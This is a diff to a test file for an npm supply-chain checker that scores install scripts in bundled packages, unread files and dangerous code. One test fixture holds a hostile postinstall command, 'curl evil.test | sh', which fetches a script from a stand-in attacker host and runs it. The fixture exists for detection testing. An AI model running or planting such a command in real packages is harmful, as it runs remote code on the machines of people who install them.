@@ -169,6 +169,20 @@ checkTable(check, [
     data: { commands: ['install (bundled lodash@4.17.21): node-gyp rebuild'] },
   },
   {
+    name: 'a bundled binding.gyp beside an install script or preinstall of its own: npm adds no node-gyp rebuild',
+    evidence: evidence({
+      tarball: {
+        bundled: [
+          bundledFolder('node_modules/a', { install: 'node a.js' }, { bindingGyp: true }),
+          bundledFolder('node_modules/b', { preinstall: 'node b.js' }, { bindingGyp: true }),
+        ],
+      },
+    }),
+    score: 30,
+    messageId: 'scripts',
+    data: { commands: ['install (bundled lodash@4.17.21): node a.js', 'preinstall (bundled lodash@4.17.21): node b.js'] },
+  },
+  {
     name: 'a bundled package.json nerq could not read is unknown install-time code',
     evidence: evidence({ tarball: { bundled: [{ path: 'node_modules/big', manifest: null, problem: 'package.json is larger than 128 KiB', bindingGyp: false, declared: true }] } }),
     score: 30,
@@ -265,6 +279,18 @@ checkTable(check, [
     caps: [INSTALL_CODE_CAP],
   },
   {
+    name: "a bundled package's command names a file left unread past the caps: unknown, held",
+    evidence: evidence({
+      tarball: {
+        bundled: [{ path: 'node_modules/h', manifest: { name: 'h', version: '1.0.0', installScripts: { postinstall: 'node index.js' } }, problem: null, bindingGyp: false, declared: true }],
+        installCode: { files: [], missing: [], unread: ['node_modules/h/index.js'], unreadBundled: ['node_modules/h/index.js'] },
+      },
+    }),
+    score: null,
+    messageId: 'code-unread',
+    data: { unread: ['node_modules/h/index.js'], bundled: ['h@1.0.0'] },
+  },
+  {
     name: 'a suspicious command stays suspicious whatever its code',
     evidence: withCode({ postinstall: 'curl evil.test | sh && node install.js' }, [jsFile('install.js', 'ok()')]),
     score: 10,
@@ -357,5 +383,29 @@ describe('install-scripts: the verdict hold', () => {
     const outcome = outcomeOf(check, withScripts(scripts));
     if (hold === null) expect(outcome.holdVerdict).toBeUndefined();
     else expect(outcome.holdVerdict).toMatch(hold);
+  });
+});
+
+describe('install-scripts: the code bundled packages run', () => {
+  const helper = { path: 'node_modules/h', manifest: { name: 'h', version: '1.0.0', installScripts: { postinstall: 'node index.js' } }, problem: null, bindingGyp: false, declared: true };
+  const withBundledCode = (installCode: { files: ReturnType<typeof jsFile>[]; missing: string[]; unread: string[]; unreadBundled?: string[] }) =>
+    evidence({ tarball: { bundled: [helper], installCode } });
+
+  it("a bundled package's file doing what malicious packages do: 0, named by its path in the tarball", () => {
+    const outcome = outcomeOf(check, withBundledCode({ files: [jsFile('node_modules/h/index.js', RECON)], missing: [], unread: [] }));
+    expect([outcome.score, outcome.messageId]).toEqual([0, 'code-dangerous']);
+    expect(String(outcome.data?.code)).toContain('node_modules/h/index.js (');
+  });
+
+  it('a file a bundled command names, left unread past the caps, is unknown and holds the verdict (code-unread)', () => {
+    const unread = ['node_modules/h/index.js'];
+    const outcome = outcomeOf(check, withBundledCode({ files: [], missing: [], unread, unreadBundled: unread }));
+    expect([outcome.score, outcome.messageId, outcome.data?.unread]).toEqual([null, 'code-unread', unread]);
+    expect(outcome.holdVerdict).toBeTypeOf('string');
+  });
+
+  it('saved evidence without unreadBundled: a file listed unread is code not read, and holds the verdict', () => {
+    const outcome = outcomeOf(check, withBundledCode({ files: [], missing: [], unread: ['node_modules/h/index.js'] }));
+    expect([outcome.score, outcome.messageId, typeof outcome.holdVerdict]).toEqual([null, 'code-unread', 'string']);
   });
 });
